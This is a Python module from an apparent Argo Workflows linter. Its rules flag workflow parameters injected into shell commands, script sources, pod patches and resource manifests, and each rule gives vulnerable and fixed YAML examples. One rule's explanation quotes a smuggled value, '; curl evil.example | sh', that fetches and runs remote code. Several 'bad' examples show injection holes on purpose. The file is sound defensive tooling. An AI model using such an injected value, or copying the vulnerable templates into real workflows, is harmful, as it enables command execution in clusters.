"""Rules about values that become code: parameters put into scripts, patches and manifests."""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import pairwise

from argoform.lint.context import Context
from argoform.lint.finding import Problem
from argoform.lint.manifest import Manifest
from argoform.lint.practice.examples import template
from argoform.lint.practice.facts import Body, Container, containers, defaults, listed, mapping, template_name
from argoform.lint.practice.flow import open_tags
from argoform.lint.rule import rule

_INTERPRETER = re.compile(
    r"(?:.*/)?(?:sh|bash|ash|dash|zsh|ksh|pwsh|powershell|cmd|python[0-9.]*|perl|ruby|node|php|lua)(?:\.exe)?"
)
_CODE_FLAG = re.compile(r"-[a-z]*[ce]|/[cC]|-Command|--eval|-r")
_AS_ENV = 'pass the value in `env` or as an argument of its own, and read it there (`"$NAME"`, `"$1"`)'
_LINK = "https://argo-workflows.readthedocs.io/en/latest/security/"
_INPUT = "inputs:\n  parameters:\n    - name: file\n"


@rule(
    "AF055",
    severity="warning",
    title="No parameter is put into a command line of a shell",
    needs=("command", "args"),
    why="Argo fills tags in before the shell reads the line. A value such as `; curl evil.example | sh` is then a "
    "command, run with the rights of the workflow's service account.",
    bad=template(
        _INPUT + 'container:\n  image: busybox:1.37\n  command: [sh, -c]\n  args: ["wc -l {{inputs.parameters.file}}"]',
        kind="WorkflowTemplate",
    ),
    good=template(
        _INPUT
        + "container:\n  image: busybox:1.37\n  command: [sh, -c]\n"
        + '  args: [\'wc -l "$1"\', sh, "{{inputs.parameters.file}}"]',
        kind="WorkflowTemplate",
    ),
    link=_LINK,
)
def shell(manifest: Manifest, context: Context) -> Iterator[Problem]:
    """Values from outside in what follows `-c` (or `-e`); arguments after it are safe, as are values known here."""
    for one in containers(manifest):
        if id(one.body) in manifest.inventory.untagged:
            continue
        for path, code in _code(one, mapping(defaults(manifest).get(one.field))):
            found = open_tags(manifest, one.template, code)
            if found:
                yield Problem(
                    path,
                    f"the template `{template_name(one.template)}` runs the value of {listed(found)} as code",
                    _AS_ENV,
                )


@rule(
    "AF056",
    severity="warning",
    title="No parameter is put into the source of a script",
    needs=("source",),
    why="Argo fills tags in before the interpreter reads the source: a quote in the value ends the script's own "
    "string, "
    "and what follows is run with the rights of the workflow's service account.",
    bad=template(
        _INPUT
        + "script:\n  image: python:3.13\n  command: [python]\n"
        + "  source: print(open('{{inputs.parameters.file}}').read())",
        kind="WorkflowTemplate",
    ),
    good=template(
        _INPUT
        + "script:\n  image: python:3.13\n  command: [python]\n"
        + '  env:\n    - {name: FILE, value: "{{inputs.parameters.file}}"}\n'
        + "  source: |\n    import os\n    print(open(os.environ['FILE']).read())",
        kind="WorkflowTemplate",
    ),
    link=_LINK,
)
def source(manifest: Manifest, context: Context) -> Iterator[Problem]:
    """Values from outside; those that are known here do no harm."""
    for path, body in manifest.templates:
        code = mapping(body.get("script")).get("source")
        found = open_tags(manifest, body, code) if isinstance(code, str) else []
        if found:
            yield Problem(
                f"{path}.script.source",
                f"the template `{template_name(body, path)}` runs the value of {listed(found)} as code",
                _AS_ENV,
            )


@rule(
    "AF057",
    severity="warning",
    title="No parameter is put into a patch of the pod",
    needs=("podSpecPatch",),
    why="`podSpecPatch` may change everything about a pod: a value with a quote or a line break of its own adds "
    "privileges, volumes of the node or another image.",
    bad=template(
        _INPUT + 'podSpecPatch: "{\\"nodeName\\": \\"{{inputs.parameters.file}}\\"}"\n'
        'container: {image: "busybox:1.37", command: [date]}',
        kind="WorkflowTemplate",
    ),
    good=template(
        "inputs:\n  parameters:\n    - {name: file, enum: [a, b]}\n"
        + 'podSpecPatch: "{\\"nodeName\\": \\"{{inputs.parameters.file}}\\"}"\n'
        + 'container: {image: "busybox:1.37", command: [date]}',
        kind="WorkflowTemplate",
    ),
    link="https://argo-workflows.readthedocs.io/en/latest/fields/#workflowspec",
)
def patch(manifest: Manifest, context: Context) -> Iterator[Problem]:
    """Patches of the spec, of the template defaults and of templates."""
    base = manifest.spec_path
    places: list[tuple[str, Body]] = [(base, manifest.spec), (f"{base}.templateDefaults", defaults(manifest))]
    for path, body in (*places, *manifest.templates):
        value = body.get("podSpecPatch")
        found = open_tags(manifest, body, value) if isinstance(value, str) else []
        if found:
            yield Problem(
                f"{path}.podSpecPatch",
                f"the value of {listed(found)} becomes part of the pod's specification",
                "give the parameter an `enum`, or make it a number: `{{=asInt(...)}}`",
            )


@rule(
    "AF058",
    severity="note",
    title="No parameter is put into a manifest unquoted",
    needs=("manifest",),
    why="The manifest of a resource template is parsed after Argo has filled tags in: a value with a line break "
    "adds fields "
    "to the object, or a whole object after `---`. In double quotes, `toJson` keeps any value one string.",
    bad=template(
        _INPUT + "resource:\n  action: apply\n  manifest: |\n    apiVersion: v1\n    kind: ConfigMap\n"
        "    metadata: {name: result}\n    data:\n      file: {{inputs.parameters.file}}",
        kind="WorkflowTemplate",
    ),
    good=template(
        _INPUT + "resource:\n  action: apply\n  manifest: |\n    apiVersion: v1\n    kind: ConfigMap\n"
        "    metadata: {name: result}\n    data:\n      file: {{=toJson(inputs.parameters.file)}}",
        kind="WorkflowTemplate",
    ),
    link="https://argo-workflows.readthedocs.io/en/latest/walk-through/kubernetes-resources/",
)
def resource_manifest(manifest: Manifest, context: Context) -> Iterator[Problem]:
    """A manifest that is nothing but a tag is the caller's own, and is not judged."""
    for path, body in manifest.templates:
        value = mapping(body.get("resource")).get("manifest")
        if not isinstance(value, str) or "{{" not in value or re.fullmatch(r"\s*\{\{[^{}]*\}\}\s*", value):
            continue
        found = [tag for tag in open_tags(manifest, body, value) if "toJson" not in tag]
        if found:
            yield Problem(
                f"{path}.resource.manifest",
                f"the value of {listed(found)} becomes part of the manifest of `{template_name(body, path)}`",
                "write `{{=toJson(...)}}`, or give the parameter an `enum`",
            )


def _code(one: Container, defaults: Body) -> Iterator[tuple[str, str]]:
    """The arguments of a container that an interpreter takes as code; its command may be that of the defaults."""
    words: list[tuple[str, str]] = []
    for field in ("command", "args"):
        listed_words = one.body.get(field) or defaults.get(field)
        if isinstance(listed_words, list):
            words += [(f"{one.path}.{field}[{index}]", str(word)) for index, word in enumerate(listed_words)]
    interpreted = False
    for (_, word), (path, code) in pairwise(words):
        interpreted = interpreted or _INTERPRETER.fullmatch(word) is not None
        if interpreted and _CODE_FLAG.fullmatch(word) and "{{" in code:
            yield path, code
            return
